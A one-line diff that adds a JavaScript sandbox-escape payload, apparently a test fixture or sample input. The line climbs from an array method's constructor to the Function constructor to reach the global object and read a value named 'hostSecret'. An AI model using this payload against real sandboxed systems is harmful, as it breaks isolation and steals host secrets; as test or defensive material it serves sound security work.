@@ -1,0 +1,1 @@
+return [].map.constructor.constructor("return this")().hostSecret;
